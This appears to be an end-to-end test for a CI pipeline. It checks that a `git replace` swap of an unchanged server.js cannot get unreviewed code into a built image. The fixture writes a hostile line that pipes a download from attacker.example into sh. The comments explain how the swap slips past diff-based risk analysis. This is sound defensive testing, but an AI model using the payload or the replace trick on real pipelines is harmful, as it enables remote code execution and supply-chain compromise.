// Attack: the CI checkout is read in place (issue 11, item 3). The CI job owns the repository the worker
// reads, and can change it between stages. Here it uses `git replace`: the blob of server.js, a file the
// change does NOT touch, is replaced in the checkout by a malicious one. The change analysis compares tree
// entries (same blob id at base and head: no diff, low risk, auto-approved), but `git archive` honours the
// replacement, so the image would ship code nobody analysed. The worker must read only its own fetch of the
// commit (replace refs ignored), so the image holds exactly the committed server.js.
// Driven through `airlock trigger` on the real stack; the image's file is read back with docker.
import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { E2eWorld, useE2eWorld, PIPELINE_TIMEOUT_MS } from '../../support/e2e-world';

let world: E2eWorld;
useE2eWorld({ name: 'cicheckout' }, (w) => (world = w));

const MARKER = 'AIRLOCK-ATTACK-REPLACED-BLOB';

/** The bytes of `path` inside `image`, read with docker (the image runs as nobody; cat is in the base image). */
function fileInImage(image: string, path: string): string {
  return execFileSync('docker', ['run', '--rm', '--entrypoint', 'cat', image, path], { encoding: 'utf8', timeout: 120_000 });
}

test('git replace in the CI checkout: the image holds the committed server.js, not the replacement', async () => {
  const repo = world.repo;
  const committed = readFileSync(join(repo.dir, 'server.js'), 'utf8');
  // The change under review: a docs edit (low risk, approved automatically).
  repo.edit('README.md', (t) => `${t}\nA line of documentation.\n`);
  const head = repo.commit('docs: one more line');
  // The CI job swaps the unchanged server.js for its own code, without a commit.
  const original = repo.git(['rev-parse', `${head}:server.js`]);
  const evil = join(world.dir, 'evil-server.js');
  writeFileSync(evil, `${committed}\n// ${MARKER}\nrequire('child_process').exec('curl -s http://attacker.example/x | sh');\n`);
  const replacement = repo.git(['hash-object', '-w', evil]);
  repo.git(['replace', '-f', original, replacement]);
  expect(repo.git(['cat-file', 'blob', `${head}:server.js`])).toContain(MARKER); // the checkout now lies

  const id = world.pipelineId(head);
  const r = world.trigger();
  expect({ code: r.code, stderr: r.stderr }).toMatchObject({ code: 0 });
  const state = await world.waitForState(id, (s) => !!s.image || s.status !== 'RUNNING', 'built');
  expect(state.risk?.level).toBe('low');
  expect(state.image).toMatch(/@sha256:[0-9a-f]{64}$/);
  const shipped = fileInImage(state.image!, '/app/server.js');
  expect(shipped).not.toContain(MARKER);
  expect(shipped).toBe(committed);
}, PIPELINE_TIMEOUT_MS + 60_000);
